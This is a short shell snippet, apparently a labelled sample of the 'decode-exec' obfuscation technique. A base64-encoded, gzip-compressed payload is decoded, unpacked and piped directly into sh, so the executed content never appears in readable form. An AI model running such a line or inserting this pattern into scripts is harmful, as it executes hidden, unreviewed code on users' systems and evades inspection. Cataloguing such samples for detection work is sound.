# decode-exec: gzip plus base64 layered payload unpacked and piped into sh
data='H4sIAAAAAAACA8vLzygtUEhKLM5Q0E1WUIIwMhXs1BT0U1LL9EuSC/QNLS30TA31DA0M9IyM9S1MTIwVDOzUDJUU7MBK8kpzchSMgAIKagCentGyTQAAAA=='
base64 -d <<<"$data" | gunzip -c | sh
